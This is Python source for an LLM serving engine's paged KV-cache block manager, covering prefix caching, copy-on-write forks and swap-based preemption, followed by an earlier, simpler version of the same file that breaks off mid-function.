                out[k] = jax.lax.dynamic_update_slice_in_dim(
                    v, n[k].astype(v.dtype), slot, axis=ax)
        return out
    return walk(cache, new, False)
