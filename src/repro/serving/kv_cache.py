"""Paged KV-cache block manager — the vLLM mechanism (Kwo+23) the paper's
LLM server layer is built on, reimplemented for the JAX engine — now with
automatic prefix caching.

Logical layer (this file): refcounted block allocator + per-sequence block
tables + a content-addressed prefix cache + preemption accounting.
Physical layer: the engine owns per-layer pools
``[num_blocks, block_size, kv_heads, head_dim]``; the attention gather walks
the block table (JAX path in ``engine.py``; Trainium-native DMA-gather path
in ``repro/kernels/paged_attention.py``).

Prefix caching (DESIGN.md §"Prefix cache"): every *full* block whose token
contents are known is keyed *incrementally* — ``block_key(parent_key,
block_token_ids, salt)``, a fixed-size digest chained through the parent
block's key, so the key still identifies the entire prefix (deep-layer K/V
depend on every preceding token) while key computation is O(tokens) total
and keys are serializable across processes (the cross-instance prefix
index in ``core/prefix_index.py`` ships them on heartbeats).  A digest can
collide, so a key match alone never serves KV: the manager stores each
registered block's ``(parent_key, salt, block_tokens)`` and refuses the
match unless they are equal — the never-serve-foreign-KV guarantee is
carried by the token comparison, not the hash.
``allocate(..., token_ids=...)`` walks the longest cached chain and takes
references on the matching physical blocks instead of recomputing them;
freed refcount-0 blocks that are still registered stay in an LRU pool and
are only scavenged when no never-cached block is free.  Writes into a
shared block go through ``cow_if_shared`` (copy-on-write).

Swap-based preemption (DESIGN.md §"Swap-based preemption"): under memory
pressure a preemption victim no longer has to throw its decoded KV away.
``swap_out`` classifies the victim's filled blocks: blocks whose content is
*shared* with another live sequence (the prefix-cache working set — system
prompts) are merely re-looked-up at resume, everything else is offloaded to
a bounded **host** block pool (the physical copy is the engine's job; this
layer only accounts slots).  ``swap_in`` replays the record into fresh
device blocks, re-referencing still-cached blocks and falling back to
recompute from the first block that can no longer be resolved — a swap can
degrade to recompute, never to wrong KV.

Block size defaults to 128 tokens to match the 128-partition SBUF geometry
of Trainium (vs vLLM's GPU-centric 16) — see DESIGN.md §3.
"""
from __future__ import annotations

import hashlib
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Optional


class OutOfBlocks(Exception):
    pass


def block_key(parent_key: Optional[str], block_tokens, salt=None) -> str:
    """Incremental prefix-cache key for one full block: a 128-bit blake2b
    digest over (parent block's key, this block's token ids, salt).  The
    parent chain makes the key a function of the whole prefix in O(block)
    work; hex digests are fixed-size and JSON/wire-serializable, which is
    what lets the cross-instance index share them between replicas."""
    h = hashlib.blake2b(digest_size=16)
    h.update(repr((parent_key, salt)).encode())
    h.update(b"|")
    h.update(b",".join(str(int(t)).encode() for t in block_tokens))
    return h.hexdigest()


def chain_keys(token_ids, block_size: int, salt=None,
               max_blocks: Optional[int] = None) -> list[str]:
    """Keys of every full block of ``token_ids``, root first — the same
    chain a :class:`BlockManager` registers, computable without one (the
    router hashes request prompts with this to query the prefix index)."""
    n = len(token_ids) // block_size
    if max_blocks is not None:
        n = min(n, max_blocks)
    keys: list[str] = []
    parent: Optional[str] = None
    for b in range(n):
        parent = block_key(
            parent, token_ids[b * block_size:(b + 1) * block_size], salt)
        keys.append(parent)
    return keys


@dataclass
class PrefixCacheStats:
    """Monotonic counters surfaced via ``core/monitoring.py``."""
    lookups: int = 0            # allocations that attempted a prefix match
    hit_tokens: int = 0         # prompt tokens served from the cache
    miss_tokens: int = 0        # prompt tokens that had to be prefilled
    cow_copies: int = 0         # copy-on-write block copies
    evictions: int = 0          # cached refcount-0 blocks scavenged
    registered_blocks: int = 0  # hash-table insertions (lifetime)
    collision_rejects: int = 0  # key matched, stored tokens differed
    forks: int = 0              # sequence forks (parallel sampling)

    def as_dict(self) -> dict:
        return {k: getattr(self, k) for k in (
            "lookups", "hit_tokens", "miss_tokens", "cow_copies",
            "evictions", "registered_blocks", "collision_rejects",
            "forks")}


@dataclass
class SwapStats:
    """Monotonic swap-preemption counters (host pool accounting)."""
    swap_out_seqs: int = 0       # sequences offloaded
    swap_in_seqs: int = 0        # sequences restored
    swap_out_blocks: int = 0     # device blocks copied to the host pool
    swap_in_blocks: int = 0      # host blocks copied back to the device
    lookup_blocks: int = 0       # blocks re-referenced from the prefix
    #                              cache at swap-in instead of restored
    fallbacks: int = 0           # swap_out refused: host pool full
    dropped_blocks: int = 0      # host blocks discarded (chain evicted
    #                              under them, or seq finished while out)
    # per-slot recurrent state rides a swap as ONE opaque host record
    # (captured/written back by the engine; counted here so the swap
    # telemetry covers every leaf kind)
    state_records_out: int = 0   # opaque state checkpoints captured
    state_records_in: int = 0    # checkpoints written back at resume
    state_records_dropped: int = 0  # checkpoint/KV length mismatch:
    #                               resume replayed from scratch instead

    def as_dict(self) -> dict:
        return {k: getattr(self, k) for k in (
            "swap_out_seqs", "swap_in_seqs", "swap_out_blocks",
            "swap_in_blocks", "lookup_blocks", "fallbacks",
            "dropped_blocks", "state_records_out", "state_records_in",
            "state_records_dropped")}


@dataclass
class SwapRecord:
    """Everything needed to rebuild a swapped-out sequence's allocation.
    ``layout`` holds one entry per filled block, root first:
    ``("host", slot, key, src)`` — offloaded to host pool slot ``slot``
    (``key``/``src`` kept when the block was registered, so a surviving
    LRU-parked device copy can still be re-referenced at swap-in instead
    of paying the host→device copy) — or ``("cached", key, src)`` —
    expected to be re-resolvable through the prefix table (re-verified
    against ``src`` at swap-in)."""
    seq_id: int
    layout: list
    token_ids: list
    salt: object
    num_filled: int
    num_tokens: int
    hashes: list

    @property
    def host_slots(self) -> list[int]:
        return [e[1] for e in self.layout if e[0] == "host"]


@dataclass
class SeqAllocation:
    seq_id: int
    blocks: list[int] = field(default_factory=list)
    num_tokens: int = 0
    # prefix-cache bookkeeping -----------------------------------------
    token_ids: list[int] = field(default_factory=list)  # known contents
    salt: object = None          # key namespace (tenant isolation)
    num_cached: int = 0          # prefix tokens matched at allocate()
    num_filled: int = 0          # tokens whose KV actually sits in the pool
    _hashes: list = field(default_factory=list)         # keys, lazily grown


class BlockManager:
    def __init__(self, num_blocks: int, block_size: int = 128,
                 enable_prefix_caching: bool = True,
                 num_host_blocks: int = 0, leaf_specs=None):
        assert block_size > 0 and num_blocks > 0
        self.num_blocks = num_blocks
        self.block_size = block_size
        self.enable_prefix_caching = enable_prefix_caching
        # the engine's per-leaf cache contract ({path: CacheLeafSpec}) —
        # block accounting here covers the paged leaves; the spec is kept
        # so telemetry/debugging can name which leaves this manager pages
        self.leaf_specs = dict(leaf_specs or {})
        self._seqs: dict[int, SeqAllocation] = {}
        # per-block state; a "key" is the incremental digest from
        # block_key(parent_key, block_tokens, salt).  Digests can collide,
        # so _src keeps each registered block's (parent_key, salt, tokens)
        # and every match re-verifies against it before serving KV.
        self._ref = [0] * num_blocks
        self._hash: list[Optional[str]] = [None] * num_blocks
        self._src: list[Optional[tuple]] = [None] * num_blocks
        # refcount-0 blocks: plain (never registered / evicted) vs cached
        # (still registered; LRU order, oldest first)
        self._free_plain: list[int] = list(range(num_blocks - 1, -1, -1))
        self._cached_lru: "OrderedDict[int, None]" = OrderedDict()
        self._hash_to_block: dict[str, int] = {}
        self._key_fn = block_key          # injectable (collision tests)
        self.stats = PrefixCacheStats()
        # physical blocks grabbed from the free pools, lifetime — the
        # block-accounting signal the fork bench compares: a sequence
        # group's children alias the prompt blocks, so a forked n=4
        # request must pop strictly fewer blocks than 4 independent ones
        self.popped_blocks = 0
        # swap-based preemption: a bounded pool of *host* block slots.
        # This layer hands out slot ids and keeps per-sequence records;
        # the engine moves the actual pool rows.
        self.num_host_blocks = num_host_blocks
        self._host_free: list[int] = list(range(num_host_blocks - 1, -1, -1))
        self._swap_records: "OrderedDict[int, SwapRecord]" = OrderedDict()
        self.swap_stats = SwapStats()

    # ----- queries -----

    @property
    def free_blocks(self) -> int:
        """Allocatable blocks: truly free + cached-but-unreferenced."""
        return len(self._free_plain) + len(self._cached_lru)

    @property
    def cached_blocks(self) -> int:
        """Refcount-0 blocks currently held only by the prefix cache."""
        return len(self._cached_lru)

    def blocks_needed(self, num_tokens: int) -> int:
        return -(-num_tokens // self.block_size)

    def can_allocate(self, num_tokens: int, token_ids=None,
                     salt=None) -> bool:
        _, fresh, avail = self._plan(token_ids, num_tokens, salt)
        return fresh <= avail

    def table(self, seq_id: int) -> list[int]:
        return list(self._seqs[seq_id].blocks)

    def num_tokens(self, seq_id: int) -> int:
        return self._seqs[seq_id].num_tokens

    def cached_tokens(self, seq_id: int) -> int:
        return self._seqs[seq_id].num_cached

    def lookup_prefix(self, token_ids, num_tokens: int, salt=None) -> int:
        """Cached-prefix length (tokens) a request would hit, without
        taking references — used for admission control."""
        return len(self._match_chain(token_ids, num_tokens, salt)) \
            * self.block_size

    def cached_block_keys(self) -> list[str]:
        """Keys of every registered (matchable) block — referenced or
        LRU-parked.  Fixed-size serializable digests: this is the payload
        an instance publishes to the cross-instance prefix index on each
        heartbeat (core/prefix_index.py)."""
        return list(self._hash_to_block.keys())

    def utilization(self) -> float:
        """Fraction of allocated slots actually holding tokens (the
        near-zero-waste property vLLM's paging buys).  Shared blocks count
        once per holder: this is a logical, per-sequence view."""
        alloc = sum(len(s.blocks) for s in self._seqs.values())
        used = sum(s.num_tokens for s in self._seqs.values())
        return used / (alloc * self.block_size) if alloc else 1.0

    # ----- prefix keys -----

    def _block_tokens(self, token_ids, b: int) -> tuple:
        return tuple(
            int(t) for t in
            token_ids[b * self.block_size:(b + 1) * self.block_size])

    def _chain(self, s: SeqAllocation, upto_blocks: int) -> list[str]:
        """Block keys for s.token_ids, extended lazily (and incrementally:
        each new key hashes only its own block plus the parent key) up to
        upto_blocks.  Also records the key's source triple per entry so
        registration can store it for collision verification."""
        avail = len(s.token_ids) // self.block_size
        upto = min(upto_blocks, avail)
        while len(s._hashes) < upto:
            parent = s._hashes[-1] if s._hashes else None
            s._hashes.append(self._key_fn(
                parent, self._block_tokens(s.token_ids, len(s._hashes)),
                s.salt))
        return s._hashes[:upto]

    def _match_chain(self, token_ids, num_tokens: int, salt) -> list[int]:
        """Physical blocks matching the longest cached prefix of token_ids.
        Capped so at least one token is left to prefill (the sampler needs
        the last position's hidden state).  A digest hit alone is not a
        match: the stored (parent, salt, tokens) must be equal, otherwise
        the block is a hash collision and is refused."""
        if not self.enable_prefix_caching or token_ids is None:
            return []
        bs = self.block_size
        m_max = min((num_tokens - 1) // bs, len(token_ids) // bs)
        out: list[int] = []
        parent: Optional[str] = None
        for b in range(m_max):
            toks = self._block_tokens(token_ids, b)
            key = self._key_fn(parent, toks, salt)
            blk = self._hash_to_block.get(key)
            if blk is None:
                break
            if self._src[blk] != (parent, salt, toks):
                self.stats.collision_rejects += 1
                break
            out.append(blk)
            parent = key
        return out

    def _plan(self, token_ids, num_tokens: int, salt):
        """Shared admission/allocation arithmetic: (matched blocks, fresh
        blocks needed, blocks actually available).  Matched refcount-0
        blocks sit in the LRU and are counted free, but the match itself
        will claim them — they can't double as fresh blocks."""
        matched = self._match_chain(token_ids, max(num_tokens, 1), salt)
        fresh = self.blocks_needed(max(num_tokens, 1)) - len(matched)
        avail = self.free_blocks - sum(
            1 for b in matched if self._ref[b] == 0)
        return matched, fresh, avail

    # ----- free-pool plumbing -----

    def _pop_free(self) -> int:
        """Grab a writable block: plain free list first; else evict the
        least-recently-used cached block (dropping its hash entry)."""
        if self._free_plain:
            self.popped_blocks += 1
            return self._free_plain.pop()
        if self._cached_lru:
            b, _ = self._cached_lru.popitem(last=False)
            self._unregister(b)
            self.stats.evictions += 1
            self.popped_blocks += 1
            return b
        raise OutOfBlocks("no free block")

    def _unregister(self, b: int) -> None:
        h = self._hash[b]
        if h is not None and self._hash_to_block.get(h) == b:
            del self._hash_to_block[h]
        self._hash[b] = None
        self._src[b] = None

    def _take_ref(self, b: int) -> None:
        if self._ref[b] == 0:
            self._cached_lru.pop(b, None)
        self._ref[b] += 1

    def _drop_ref(self, b: int) -> None:
        assert self._ref[b] > 0
        self._ref[b] -= 1
        if self._ref[b] == 0:
            if self._hash[b] is not None:
                self._cached_lru[b] = None       # MRU end
            else:
                self._free_plain.append(b)

    # ----- lifecycle -----

    def allocate(self, seq_id: int, num_tokens: int, token_ids=None,
                 salt=None, prompt_tokens: Optional[int] = None) \
            -> list[int]:
        """Allocate blocks for num_tokens.  With ``token_ids`` (the known
        contents, e.g. prompt + already-generated output) the longest
        cached prefix is referenced instead of re-allocated; the caller
        reads ``cached_tokens(seq_id)`` and prefills only the suffix.
        Raises OutOfBlocks *before* any state mutation, so callers may
        attempt-and-catch instead of pre-checking ``can_allocate`` (one
        prefix walk instead of two).  ``prompt_tokens`` caps the exported
        hit/miss *stats* at the prompt — re-admits after preemption match
        their own generated blocks too, which must not inflate the
        prompt-cache hit rate."""
        assert seq_id not in self._seqs, f"seq {seq_id} already allocated"
        matched, fresh_needed, avail = self._plan(token_ids, num_tokens,
                                                  salt)
        if fresh_needed > avail:
            raise OutOfBlocks(f"need {fresh_needed}, free {avail}")
        for b in matched:
            self._take_ref(b)
        blocks = matched + [self._pop_free() for _ in range(fresh_needed)]
        for b in blocks[len(matched):]:
            self._ref[b] += 1
        s = SeqAllocation(seq_id, blocks, num_tokens,
                          token_ids=list(token_ids or []), salt=salt,
                          num_cached=len(matched) * self.block_size,
                          num_filled=len(matched) * self.block_size)
        # chain prefix for matched blocks is by construction their hashes
        s._hashes = [self._hash[b] for b in matched]
        self._seqs[seq_id] = s
        if self.enable_prefix_caching and token_ids is not None:
            cap = num_tokens if prompt_tokens is None else \
                min(prompt_tokens, num_tokens)
            self.stats.lookups += 1
            self.stats.hit_tokens += min(s.num_cached, cap)
            self.stats.miss_tokens += max(cap - s.num_cached, 0)
        return list(blocks)

    def append_token(self, seq_id: int, token_id: int | None = None) -> \
            int | None:
        """Account one generated token; returns a newly-grabbed block id if
        a block boundary was crossed (caller scatters into it), else None.
        ``token_id`` keeps the content chain alive so decode-filled blocks
        can be registered too (None breaks the chain for this seq)."""
        s = self._seqs[seq_id]
        if token_id is not None and len(s.token_ids) == s.num_tokens:
            s.token_ids.append(int(token_id))
        s.num_tokens += 1
        if s.num_tokens > len(s.blocks) * self.block_size:
            if self.free_blocks == 0:
                s.num_tokens -= 1
                if token_id is not None and len(s.token_ids) > s.num_tokens:
                    s.token_ids.pop()
                raise OutOfBlocks("no free block for decode")
            b = self._pop_free()
            self._ref[b] += 1
            s.blocks.append(b)
            return b
        return None

    def reserve(self, seq_id: int, num_tokens: int) -> list[int]:
        """Extend the block table to cover ``num_tokens`` without changing
        the sequence's logical length — the speculative-decode verify pass
        scatters draft KV beyond ``num_tokens`` and only commits accepted
        positions afterwards (via ``append_token``), so the table must
        cover them while the accounting must not.  Fresh blocks only
        (never prefix-cache references: draft contents are unconfirmed);
        raises OutOfBlocks before any state mutation.  Returns the newly
        grabbed block ids."""
        s = self._seqs[seq_id]
        need = self.blocks_needed(max(num_tokens, 1)) - len(s.blocks)
        if need <= 0:
            return []
        if need > self.free_blocks:
            raise OutOfBlocks(f"reserve needs {need}, "
                              f"free {self.free_blocks}")
        fresh = []
        for _ in range(need):
            b = self._pop_free()
            self._ref[b] += 1
            fresh.append(b)
        s.blocks.extend(fresh)
        return fresh

    def trim_reserved(self, seq_id: int,
                      keep_tokens: Optional[int] = None) -> list[int]:
        """Drop trailing blocks beyond what ``num_tokens`` needs — the
        rollback half of ``reserve``: after the verify pass commits the
        accepted prefix, whatever reserved blocks the rejected tail would
        have used are returned here.  The KV rows they hold are garbage by
        definition (they were written for rejected drafts) so they go back
        to the free pool unregistered.  ``keep_tokens`` trims ahead of the
        commits instead: the harvest pass releases each row's rejected
        tail *before* appending anyone's tokens, so an append that needs a
        fresh block finds the pool in the same state the plain path would
        have left it (never preempting — or worse, bowing out — over
        blocks that are about to be returned anyway).  No-op for unknown
        sequences (freed or swapped mid-step, like ``mark_filled``)."""
        s = self._seqs.get(seq_id)
        if s is None:
            return []
        keep = self.blocks_needed(
            max(s.num_tokens if keep_tokens is None else keep_tokens, 1))
        dropped = []
        while len(s.blocks) > keep:
            b = s.blocks.pop()
            self._drop_ref(b)
            dropped.append(b)
        return dropped

    def mark_filled(self, seq_id: int, num_filled: int) -> None:
        """Record that the KV for the first ``num_filled`` tokens is
        physically in the pool; registers newly-completed full blocks of
        known content in the prefix table."""
        s = self._seqs.get(seq_id)
        if s is None:          # freed/preempted mid-step — nothing to do
            return
        s.num_filled = max(s.num_filled, min(num_filled, s.num_tokens))
        if not self.enable_prefix_caching or not s.token_ids:
            return
        full = min(s.num_filled, len(s.token_ids)) // self.block_size
        keys = self._chain(s, full)
        for b_idx, h in enumerate(keys):
            blk = s.blocks[b_idx]
            if self._hash[blk] is not None:
                continue                      # already registered
            if h in self._hash_to_block:
                continue                      # equal-content twin exists
            self._hash[blk] = h
            self._src[blk] = (keys[b_idx - 1] if b_idx else None, s.salt,
                              self._block_tokens(s.token_ids, b_idx))
            self._hash_to_block[h] = blk
            self.stats.registered_blocks += 1

    def cow_if_shared(self, seq_id: int, pos: int) -> \
            Optional[tuple[int, int]]:
        """Make the block holding token ``pos`` writable.  If it is shared
        (refcount > 1) allocate a private copy and return ``(src, dst)`` so
        the caller can copy the physical KV; if it is exclusively held but
        registered, the registration is dropped (its content is about to
        diverge).  Returns None when no copy is needed."""
        s = self._seqs[seq_id]
        b_idx = pos // self.block_size
        blk = s.blocks[b_idx]
        if self._ref[blk] <= 1:
            if self._hash[blk] is not None and pos < s.num_filled:
                self._unregister(blk)
            return None
        dst = self._pop_free()
        self._ref[dst] += 1
        self._ref[blk] -= 1        # shared holder remains >= 1: no LRU move
        s.blocks[b_idx] = dst
        self.stats.cow_copies += 1
        return blk, dst

    def fork(self, parent_id: int, child_id: int) -> list[int]:
        """Child shares every parent block (beam-search style); subsequent
        writes must go through ``cow_if_shared``."""
        assert child_id not in self._seqs
        p = self._seqs[parent_id]
        for b in p.blocks:
            self._take_ref(b)
        c = SeqAllocation(child_id, list(p.blocks), p.num_tokens,
                          token_ids=list(p.token_ids), salt=p.salt,
                          num_cached=0, num_filled=p.num_filled)
        c._hashes = list(p._hashes)
        self._seqs[child_id] = c
        self.stats.forks += 1
        return list(c.blocks)

    def free(self, seq_id: int) -> None:
        """Drop the sequence's references.  Registered blocks that reach
        refcount 0 are parked in the LRU prefix cache, not scrubbed — the
        whole point: the next request with the same prefix re-references
        them."""
        s = self._seqs.pop(seq_id, None)
        if s is None:
            return
        for b in reversed(s.blocks):
            self._drop_ref(b)

    def active_seqs(self) -> list[int]:
        return list(self._seqs)

    # ----- swap-based preemption (CPU offload) -----

    @property
    def host_blocks_used(self) -> int:
        return self.num_host_blocks - len(self._host_free)

    @property
    def swapped_seqs(self) -> list[int]:
        """Swapped-out sequence ids, least-recently-swapped first."""
        return list(self._swap_records)

    def _resolve_key(self, key: str, src: tuple):
        """Physical block currently holding ``key``'s content, with the
        collision-safety re-verification, or None."""
        blk = self._hash_to_block.get(key)
        if blk is None or self._src[blk] != src:
            return None
        return blk

    def swap_out(self, seq_id: int):
        """Preempt ``seq_id`` by offload instead of recompute: classify
        every filled block, grab host slots for the ones that must be
        offloaded, free the device blocks, and keep a :class:`SwapRecord`.

        A block is *not* offloaded when its content is registered in the
        prefix table and some **other live sequence** still references the
        registered copy — the shared system-prompt working set — because
        that copy survives the victim's free and swap_in can simply
        re-reference it.  Merely LRU-parked (refcount-0) registrations are
        offloaded too: under the very pressure that caused this preemption
        they are the first blocks scavenged, and relying on them would
        silently degrade swap back into recompute.

        Returns ``(device_block_ids, host_slots)`` — aligned lists whose
        pool rows the caller must copy device→host **before its next
        allocation** (the freed blocks' data is intact only until someone
        claims and writes them) — or ``None`` when the host pool cannot
        hold the offload (caller falls back to recompute preemption).
        """
        s = self._seqs.get(seq_id)
        assert s is not None, f"seq {seq_id} not allocated"
        assert seq_id not in self._swap_records
        bs = self.block_size
        filled_blocks = -(-s.num_filled // bs)
        full_known = (min(s.num_filled, len(s.token_ids)) // bs
                      if self.enable_prefix_caching else 0)
        keys = self._chain(s, full_known)
        layout: list = []
        offload: list[int] = []
        for i in range(filled_blocks):
            key = src = None
            if i < full_known:
                src = (keys[i - 1] if i else None, s.salt,
                       self._block_tokens(s.token_ids, i))
                hit = self._resolve_key(keys[i], src)
                if hit is not None and self._ref[hit] > (
                        1 if hit in s.blocks else 0):
                    layout.append(("cached", keys[i], src))
                    continue
                key = keys[i]            # offloaded, but still keyed: the
                #                          LRU-parked copy may yet survive
            layout.append(None)          # placeholder: host slot below
            offload.append((i, key, src))
        if len(offload) > len(self._host_free):
            self.swap_stats.fallbacks += 1
            return None
        dev_blocks, host_slots = [], []
        for i, key, src in offload:
            slot = self._host_free.pop()
            layout[i] = ("host", slot, key, src)
            dev_blocks.append(s.blocks[i])
            host_slots.append(slot)
        rec = SwapRecord(seq_id, layout, list(s.token_ids), s.salt,
                         s.num_filled, s.num_tokens, list(s._hashes))
        self.free(seq_id)                # registered blocks park in LRU
        self._swap_records[seq_id] = rec
        self.swap_stats.swap_out_seqs += 1
        self.swap_stats.swap_out_blocks += len(dev_blocks)
        return dev_blocks, host_slots

    def _plan_swap_in(self, rec: SwapRecord, num_tokens: int):
        """Resolve a swap record against the *current* cache state:
        ``(entries, restored_tokens, fresh_needed, avail)``.  ``entries``
        is one ``("ref", block, host_slot_or_None)`` /
        ``("restore", host_slot)`` per usable block.  A keyed *host*
        entry whose registered device copy still survives (LRU-parked,
        unscavenged) resolves to a ref — content is byte-identical, so
        re-referencing it saves the fresh block and the host→device
        copy; its slot rides along to be freed.  The walk stops at the
        first *cached* entry that no longer resolves (everything behind
        a gap would attend over garbage), so a partially-evicted record
        degrades to recompute from the gap."""
        entries: list = []
        for ent in rec.layout:
            if ent[0] == "host":
                _, slot, key, src = ent
                blk = self._resolve_key(key, src) if key is not None \
                    else None
                if blk is not None:
                    entries.append(("ref", blk, slot))
                else:
                    entries.append(("restore", slot))
            else:
                blk = self._resolve_key(ent[1], ent[2])
                if blk is None:
                    break
                entries.append(("ref", blk, None))
        restored = min(rec.num_filled, len(entries) * self.block_size)
        refs = [e[1] for e in entries if e[0] == "ref"]
        fresh = self.blocks_needed(max(num_tokens, 1)) - len(refs)
        avail = self.free_blocks - sum(1 for b in refs if self._ref[b] == 0)
        return entries, restored, fresh, avail

    def can_swap_in(self, seq_id: int, num_tokens: int) -> bool:
        """Whether ``swap_in`` would currently succeed — the admission
        check that keeps swapped re-admission honest about pressure."""
        rec = self._swap_records.get(seq_id)
        if rec is None:
            return False
        _, _, fresh, avail = self._plan_swap_in(rec, num_tokens)
        return fresh <= avail

    def swap_in(self, seq_id: int, num_tokens: int, token_ids=None):
        """Rebuild a swapped-out sequence's allocation for ``num_tokens``
        (which may exceed the swapped size — tokens decoded in the same
        step as the preemption arrive after the record was cut).  Cached
        entries are re-referenced, host entries get fresh device blocks.

        Returns ``(blocks, restores, num_filled, num_cached)`` where
        ``restores`` is ``[(host_slot, block_id), ...]`` the caller must
        copy host→device **before this call's host slots are reused**
        (they are freed here) and before the next model call touches the
        sequence.  ``num_filled`` is how many leading tokens will hold
        valid KV once the restores land — the caller resumes prefill from
        there.  Raises OutOfBlocks *before any state mutation*.

        ``token_ids`` (the sequence's full current contents) replaces the
        record's snapshot so blocks filled by post-swap decode steps keep
        a live content chain; it must extend the snapshot, never rewrite
        it.
        """
        rec = self._swap_records[seq_id]
        assert seq_id not in self._seqs, f"seq {seq_id} still allocated"
        entries, restored, fresh, avail = self._plan_swap_in(rec,
                                                             num_tokens)
        if fresh > avail:
            raise OutOfBlocks(f"swap-in needs {fresh}, free {avail}")
        self._swap_records.pop(seq_id)
        # take every re-reference BEFORE grabbing any fresh block: a
        # refcount-0 ref sits parked in the LRU, and _pop_free scavenges
        # the LRU — interleaving could hand a later entry's block out as
        # someone's fresh block (allocate() orders the same way)
        for e in entries:
            if e[0] == "ref":
                self._take_ref(e[1])
        blocks, restores = [], []
        reclaimed = 0                    # host slots whose device copy
        for e in entries:                # survived: freed, nothing copied
            if e[0] == "ref":
                blocks.append(e[1])
                if e[2] is not None:
                    self._host_free.append(e[2])
                    reclaimed += 1
            else:
                b = self._pop_free()
                self._ref[b] += 1
                blocks.append(b)
                restores.append((e[1], b))
        for _ in range(self.blocks_needed(max(num_tokens, 1))
                       - len(blocks)):
            b = self._pop_free()
            self._ref[b] += 1
            blocks.append(b)
        # host slots behind an eviction gap hold unreachable KV: drop them
        dropped = [e[1] for e in rec.layout[len(entries):]
                   if e[0] == "host"]
        self._host_free.extend(dropped)
        # restored slots become reusable as soon as the caller's copy runs
        self._host_free.extend(s for s, _ in restores)
        num_cached = 0
        for e in entries:
            if e[0] != "ref":
                break
            num_cached += self.block_size
        if token_ids is not None:
            assert list(token_ids[:len(rec.token_ids)]) == rec.token_ids, \
                "swap_in token_ids must extend the swapped snapshot"
        else:
            token_ids = rec.token_ids
        s = SeqAllocation(seq_id, blocks, num_tokens,
                          token_ids=[int(t) for t in token_ids],
                          salt=rec.salt,
                          num_cached=min(num_cached, restored),
                          num_filled=restored)
        s._hashes = list(rec.hashes)
        self._seqs[seq_id] = s
        self.swap_stats.swap_in_seqs += 1
        self.swap_stats.swap_in_blocks += len(restores)
        self.swap_stats.lookup_blocks += len(entries) - len(restores)
        self.swap_stats.dropped_blocks += len(dropped)
        return blocks, restores, restored, min(num_cached, restored)

    def drop_swap(self, seq_id: int) -> int:
        """Release a swap record without restoring it (sequence finished
        or cancelled while swapped out); frees its host slots."""
        rec = self._swap_records.pop(seq_id, None)
        if rec is None:
            return 0
        slots = rec.host_slots
        self._host_free.extend(slots)
        self.swap_stats.dropped_blocks += len(slots)
        return len(slots)

    # invariant checks (property tests) --------------------------------
    def check_invariants(self) -> None:
        holders: dict[int, int] = {}
        for s in self._seqs.values():
            assert len(s.blocks) == len(set(s.blocks)), \
                "sequence holds a block twice"
            for b in s.blocks:
                holders[b] = holders.get(b, 0) + 1
        free = set(self._free_plain) | set(self._cached_lru)
        assert len(self._free_plain) + len(self._cached_lru) == len(free), \
            "block in both free pools"
        assert len(free & set(holders)) == 0, "freed block in use"
        assert len(holders) + len(free) == self.num_blocks, "leaked block"
        for b in range(self.num_blocks):
            assert self._ref[b] == holders.get(b, 0), \
                f"refcount drift on block {b}"
        for b in self._cached_lru:
            assert self._hash[b] is not None, "unregistered block in LRU"
        for h, b in self._hash_to_block.items():
            assert self._hash[b] == h, "hash table / block hash mismatch"
        for b in range(self.num_blocks):
            assert (self._hash[b] is None) == (self._src[b] is None), \
                "key / source-tokens bookkeeping out of sync"
            if self._src[b] is not None:
                assert len(self._src[b][2]) == self.block_size, \
                    "registered block with non-full source tokens"
        for s in self._seqs.values():
            assert s.num_tokens <= len(s.blocks) * self.block_size
            # >= not ==: reserve() may briefly hold speculative blocks
            # beyond num_tokens until trim_reserved() unwinds them
            assert len(s.blocks) >= self.blocks_needed(max(s.num_tokens, 1))
            assert s.num_filled <= s.num_tokens
            assert s.num_cached <= s.num_filled
        # host (swap) pool accounting
        used = [slot for rec in self._swap_records.values()
                for slot in rec.host_slots]
        assert len(used) == len(set(used)), "host slot double-booked"
        assert not set(used) & set(self._host_free), "freed host slot in use"
        assert len(used) + len(self._host_free) == self.num_host_blocks, \
            "leaked host slot"
        for rec in self._swap_records.values():
            assert rec.seq_id not in self._seqs, \
                "sequence both live and swapped"
            assert rec.num_filled <= rec.num_tokens
            assert len(rec.layout) == -(-rec.num_filled // self.block_size)
