"""Paged KV-cache block manager — the vLLM mechanism (Kwo+23) the paper's
LLM server layer is built on, reimplemented for the JAX engine.

Logical layer (this file): block allocator + per-sequence block tables +
preemption accounting.  Physical layer: the engine owns per-layer pools
``[num_blocks, block_size, kv_heads, head_dim]``; the attention gather walks
the block table (JAX path in ``engine.py``; Trainium-native DMA-gather path
in ``repro/kernels/paged_attention.py``).

Block size defaults to 128 tokens to match the 128-partition SBUF geometry
of Trainium (vs vLLM's GPU-centric 16) — see DESIGN.md §3.
"""
from __future__ import annotations

from dataclasses import dataclass, field


class OutOfBlocks(Exception):
    pass


@dataclass
class SeqAllocation:
    seq_id: int
    blocks: list[int] = field(default_factory=list)
    num_tokens: int = 0


class BlockManager:
    def __init__(self, num_blocks: int, block_size: int = 128):
        assert block_size > 0 and num_blocks > 0
        self.num_blocks = num_blocks
        self.block_size = block_size
        self._free: list[int] = list(range(num_blocks - 1, -1, -1))
        self._seqs: dict[int, SeqAllocation] = {}

    # ----- queries -----

    @property
    def free_blocks(self) -> int:
        return len(self._free)

    def blocks_needed(self, num_tokens: int) -> int:
        return -(-num_tokens // self.block_size)

    def can_allocate(self, num_tokens: int) -> bool:
        return self.blocks_needed(num_tokens) <= self.free_blocks

    def table(self, seq_id: int) -> list[int]:
        return list(self._seqs[seq_id].blocks)

    def num_tokens(self, seq_id: int) -> int:
        return self._seqs[seq_id].num_tokens

    def utilization(self) -> float:
        """Fraction of allocated slots actually holding tokens (the
        near-zero-waste property vLLM's paging buys)."""
        alloc = sum(len(s.blocks) for s in self._seqs.values())
        used = sum(s.num_tokens for s in self._seqs.values())
        return used / (alloc * self.block_size) if alloc else 1.0

    # ----- lifecycle -----

    def allocate(self, seq_id: int, num_tokens: int) -> list[int]:
        assert seq_id not in self._seqs, f"seq {seq_id} already allocated"
        need = self.blocks_needed(max(num_tokens, 1))
        if need > self.free_blocks:
            raise OutOfBlocks(f"need {need}, free {self.free_blocks}")
        alloc = SeqAllocation(seq_id,
                              [self._free.pop() for _ in range(need)],
                              num_tokens)
        self._seqs[seq_id] = alloc
        return list(alloc.blocks)

    def append_token(self, seq_id: int) -> int | None:
        """Account one generated token; returns a newly-grabbed block id if a
        block boundary was crossed (caller scatters into it), else None."""
        s = self._seqs[seq_id]
        s.num_tokens += 1
